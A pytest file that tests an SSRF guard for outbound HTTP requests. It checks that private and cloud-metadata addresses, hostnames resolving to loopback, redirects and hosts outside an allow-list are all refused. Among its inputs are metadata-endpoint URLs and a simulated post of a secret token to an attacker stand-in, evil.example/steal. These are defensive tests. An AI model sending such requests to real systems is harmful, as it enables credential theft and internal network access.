"""The outbound guard (bigtech.outbound), attacked the way a tenant would: private targets by literal
address, by a hostname resolving to loopback, by mixed DNS answers, by redirects; and the one way in,
``BIGTECH_OUTBOUND_ALLOW_HOSTS``. Every "refused" case also proves the local listener got nothing."""

from __future__ import annotations

import ipaddress
import socket

import httpx
import pytest

from bigtech import outbound
from bigtech.outbound import OutboundPolicy, OutboundRefused, address_problem, check_url, guarded_client

from .receiver import Receiver

REAL_GETADDRINFO = socket.getaddrinfo


def fake_dns(monkeypatch, table: dict[str, list[str]]) -> list[str]:
    """Resolve the names in ``table`` to the given addresses; everything else as usual. Returns the
    list of names looked up."""
    asked: list[str] = []

    def getaddrinfo(host, port, *args, **kwargs):
        asked.append(host)
        if host in table:
            return [(socket.AF_INET6 if ":" in a else socket.AF_INET, socket.SOCK_STREAM, 6, "", (a, port))
                    for a in table[host]]
        return REAL_GETADDRINFO(host, port, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    return asked


@pytest.fixture
def test_env(monkeypatch):
    monkeypatch.setenv("BIGTECH_ENV", "test")
    monkeypatch.setenv("BIGTECH_OUTBOUND_ALLOW_HOSTS", "")


@pytest.mark.parametrize("address", [
    "127.0.0.1", "127.8.8.8", "10.1.2.3", "172.16.0.1", "192.168.1.1", "169.254.169.254", "169.254.1.1",
    "100.64.0.1", "100.100.100.200", "0.0.0.0", "224.0.0.1", "255.255.255.255", "240.0.0.1", "198.18.0.1",
    "168.63.129.16", "::1", "::", "fe80::1", "fc00::1", "fd00:ec2::254", "ff02::1", "::ffff:127.0.0.1",
    "::ffff:169.254.169.254", "2002:7f00:1::", "64:ff9b::a9fe:a9fe", "2001:db8::1",
])
def test_private_and_special_addresses_are_refused(address):
    assert address_problem(ipaddress.ip_address(address)) is not None


@pytest.mark.parametrize("address", ["8.8.8.8", "200.147.67.142", "2001:4860:4860::8888", "::ffff:8.8.8.8"])
def test_public_addresses_pass(address):
    assert address_problem(ipaddress.ip_address(address)) is None


@pytest.mark.parametrize("url", [
    "https://127.0.0.1/", "https://169.254.169.254/latest/meta-data/", "https://[::1]:8080/",
    "https://[::ffff:127.0.0.1]/", "https://0.0.0.0/", "https://localhost/", "https://2130706433/",
    "https://[fd00:ec2::254]/",
])
def test_check_url_refuses_private_targets(url, test_env):
    with pytest.raises(OutboundRefused) as refused:
        check_url(url, OutboundPolicy.from_env())
    assert refused.value.reason in ("private_address", "invalid_url")


def test_check_url_refuses_a_hostname_resolving_to_loopback(test_env, monkeypatch):
    fake_dns(monkeypatch, {"evil.example": ["93.184.216.34", "127.0.0.1"]})
    with pytest.raises(OutboundRefused) as refused:
        check_url("https://evil.example/api/", OutboundPolicy.from_env())
    assert refused.value.reason == "private_address" and "loopback" in refused.value.message


def test_https_is_required_outside_development(monkeypatch):
    monkeypatch.setenv("BIGTECH_ENV", "production")
    assert OutboundPolicy.from_env(environ={}).environment == "production"  # unset = production
    with pytest.raises(OutboundRefused) as refused:
        check_url("http://brasilapi.com.br/api/", OutboundPolicy.from_env(["brasilapi.com.br"]))
    assert refused.value.reason == "https_required"
    monkeypatch.setenv("BIGTECH_ENV", "development")
    check_url("http://brasilapi.com.br/api/", OutboundPolicy.from_env(["brasilapi.com.br"]))


def test_manifest_allow_list_and_credentials(test_env):
    policy = OutboundPolicy.from_env(["api.infosimples.com", "*.pagar.me"])
    check_url("https://api.infosimples.com/api/v2/consultas/", policy)
    check_url("https://hubapi.pagar.me/.well-known/jwks.json", policy)
    for url, reason in (("https://api.infosimples.com.evil.example/", "host_not_allowed"),
                        ("https://evilpagar.me/", "host_not_allowed"),
                        ("https://user:pw@api.infosimples.com/", "credentials_in_url"),
                        ("ftp://api.infosimples.com/", "invalid_url"),
                        ("/relative", "invalid_url")):
        with pytest.raises(OutboundRefused) as refused:
            check_url(url, policy)
        assert refused.value.reason == reason, url


def test_fetch_to_a_hostname_resolving_to_loopback_never_connects(test_env, monkeypatch):
    with Receiver() as listener:
        asked = fake_dns(monkeypatch, {"evil.example": ["127.0.0.1"]})
        with guarded_client(OutboundPolicy.from_env()) as client, pytest.raises(OutboundRefused):
            client.post(f"http://evil.example:{listener.port}/steal", data={"token": "secret-token"})
        assert asked == ["evil.example"] and listener.hits == []


def test_fetch_to_literal_private_addresses_never_connects(test_env):
    with Receiver() as listener:
        for url in (listener.url("/"), f"http://[::ffff:127.0.0.1]:{listener.port}/", f"http://localhost:{listener.port}/"):
            with guarded_client(OutboundPolicy.from_env()) as client, pytest.raises(OutboundRefused):
                client.get(url)
        assert listener.hits == []


def test_connection_is_pinned_to_the_checked_address(test_env, monkeypatch):
    """The address checked is the address connected to: a second DNS answer is never used."""
    answers = iter([["127.0.0.1"], ["10.255.255.1"]])
    monkeypatch.setattr(outbound, "resolve", lambda host, port: [ipaddress.ip_address(a) for a in next(answers)])
    # pretend loopback is public so the (only) local listener stands in for a public server
    monkeypatch.setattr(outbound, "address_problem", lambda ip: None)
    with Receiver() as listener, guarded_client(OutboundPolicy.from_env()) as client:
        response = client.get(f"http://pinned.example:{listener.port}/ok")
    assert response.status_code == 200
    assert listener.hits[0]["host"] == f"pinned.example:{listener.port}"


def test_redirects_are_not_followed(test_env, monkeypatch):
    with Receiver() as inner, Receiver(status=302, headers={"location": "placeholder"}) as outer:
        outer.headers["location"] = inner.url("/internal")
        monkeypatch.setenv("BIGTECH_OUTBOUND_ALLOW_HOSTS", outer.host_port)
        with guarded_client(OutboundPolicy.from_env()) as client:
            response = client.get(outer.url("/"))
        assert response.status_code == 302 and len(outer.hits) == 1 and inner.hits == []


def test_the_allow_hosts_variable_is_the_only_way_in(test_env, monkeypatch):
    with Receiver() as listener:
        policy = OutboundPolicy.from_env(["api.infosimples.com"])
        with pytest.raises(OutboundRefused):
            check_url(listener.url("/"), policy)
        monkeypatch.setenv("BIGTECH_OUTBOUND_ALLOW_HOSTS", f"other:1, {listener.host_port}")
        policy = OutboundPolicy.from_env(["api.infosimples.com"])
        check_url(listener.url("/"), policy)
        with guarded_client(policy) as client:
            assert client.get(listener.url("/x")).status_code == 200
        # host:port is exact: another port on the same host stays closed
        with pytest.raises(OutboundRefused):
            check_url(f"http://127.0.0.1:{listener.port + 1}/", policy)
        assert len(listener.hits) == 1


def test_env_host_list_parsing():
    policy = OutboundPolicy.from_env(environ={"BIGTECH_OUTBOUND_ALLOW_HOSTS": " Localhost , [::1]:9000,10.0.0.5:80,"})
    assert policy.overridden("localhost", 1234) and policy.overridden("::1", 9000)
    assert not policy.overridden("::1", 9001) and policy.overridden("10.0.0.5", 80)
    assert OutboundPolicy.from_env(environ={}).override_hosts == frozenset()


def test_mock_transport_still_gets_url_rules(test_env):
    seen = []
    transport = httpx.MockTransport(lambda request: seen.append(request) or httpx.Response(200))
    with guarded_client(OutboundPolicy.from_env(["brasilapi.com.br"]), transport=transport) as client:
        client.get("https://brasilapi.com.br/api/cep/v2/01001000")
        with pytest.raises(OutboundRefused):
            client.get("https://169.254.169.254/latest/")
    assert len(seen) == 1
